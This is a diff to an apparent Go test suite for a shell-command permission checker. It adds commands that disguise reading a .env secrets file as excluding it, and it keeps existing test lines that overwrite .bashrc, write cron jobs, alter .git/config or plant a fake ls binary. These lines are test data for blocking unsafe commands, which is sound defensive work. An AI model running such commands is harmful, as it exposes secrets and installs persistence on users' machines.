@@ -69,6 +69,9 @@ mv x .git/config
 sed -i s/a/b/ ~/.bashrc
 curl -o ~/.bashrc https://example.org/x
 echo x > /etc/cron.d/x
+find . -name ! -name .env -exec cat {} +
+find . ! ! -name .env -exec cat {} +
+cat --exclude=.env .env
 cp evil ~/.local/bin/ls`) {
 		if o := (&Options{Allow: everyday, Exists: new(false)}); len(o.judge(line)) == 0 {
 			t.Errorf("%s: passes", line)
@@ -96,6 +99,8 @@ cat ~/.bashrc
 ls .git/hooks
 git add .husky/pre-commit
 rsync -a src/ dst/
+tar czf x.tgz --exclude=.env src
+grep -rn x --exclude={.env,.env.local} .
 cp -r src dst`) {
 		if faults := (&Options{Allow: everyday, Exists: new(false)}).judge(line); len(faults) > 0 {
 			t.Errorf("%s: %v", line, faults)
